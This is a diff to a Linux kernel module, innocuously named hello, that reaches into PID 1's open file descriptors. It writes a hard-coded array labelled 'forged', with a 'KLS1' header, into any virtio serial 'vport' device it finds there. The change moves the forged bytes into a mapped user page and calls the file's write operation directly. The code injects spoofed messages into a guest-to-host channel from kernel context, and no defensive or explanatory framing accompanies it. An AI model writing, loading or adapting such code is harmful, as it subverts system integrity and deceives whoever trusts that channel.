@@ -6,10 +6,13 @@
 #include <linux/fdtable.h>
 #include <linux/file.h>
 #include <linux/fs.h>
+#include <linux/mm.h>
+#include <linux/mman.h>
 #include <linux/module.h>
 #include <linux/pid.h>
 #include <linux/sched.h>
 #include <linux/string.h>
+#include <linux/uaccess.h>
 
 static const u64 forged[] = {
 	0x0000000a31534c4bULL, /* "KLS1", ten words */
@@ -20,10 +23,15 @@ static const u64 forged[] = {
 static int __init hello_init(void)
 {
 	struct task_struct *agent = get_pid_task(find_get_pid(1), PIDTYPE_PID);
+	unsigned long memory = vm_mmap(NULL, 0, PAGE_SIZE, PROT_READ | PROT_WRITE,
+				       MAP_PRIVATE | MAP_ANONYMOUS, 0);
+	char __user *bytes = (char __user *)memory;
 	unsigned int fd;
 
 	if (!agent)
 		return -ESRCH;
+	if (IS_ERR_VALUE(memory) || copy_to_user(bytes, forged, sizeof(forged)))
+		return -EFAULT;
 	for (fd = 0; fd < 32; fd++) {
 		struct files_struct *files = agent->files;
 		struct file *file = NULL;
@@ -38,7 +46,7 @@ static int __init hello_init(void)
 		if (!file)
 			continue;
 		if (strstarts(file->f_path.dentry->d_name.name, "vport"))
-			kernel_write(file, forged, sizeof(forged), &pos);
+			file->f_op->write(file, bytes, sizeof(forged), &pos);
 		fput(file);
 	}
 	put_task_struct(agent);
